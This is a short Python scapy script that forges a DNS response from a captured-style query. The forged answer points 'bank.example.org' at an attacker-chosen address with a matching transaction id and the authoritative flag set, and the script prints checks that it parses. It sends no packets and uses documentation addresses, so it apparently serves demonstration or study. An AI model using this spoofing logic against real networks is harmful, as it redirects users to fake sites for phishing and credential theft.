#!/usr/bin/env python3
# A false answer to a DNS query, made out of the query.
from scapy.all import *

query = Ether(src="02:00:00:00:00:01", dst="02:00:00:00:00:02")/IP(src="192.0.2.1", dst="192.0.2.53", id=3)/UDP(sport=5555, dport=53)/DNS(id=0x1234, rd=1, qd=DNSQR(qname="bank.example.org"))

def spoof(pkt, address):
    return (Ether(src=pkt[Ether].dst, dst=pkt[Ether].src)
            /IP(dst=pkt[IP].src, src=pkt[IP].dst)
            /UDP(dport=pkt[UDP].sport, sport=pkt[UDP].dport)
            /DNS(id=pkt[DNS].id, qd=pkt[DNS].qd, aa=1, qr=1, an=DNSRR(rrname=pkt[DNS].qd.qname, ttl=10, rdata=address)))

fake = spoof(query, "203.0.113.66")
print(fake.summary())
seen = Ether(raw(fake))
print(seen[DNS].an.rrname, seen[DNS].an.rdata, seen[DNS].id == query[DNS].id, seen[DNS].ancount)
print(seen.answers(query), seen[UDP].len, seen[IP].len)
print(seen[DNS].an.show(dump=True))
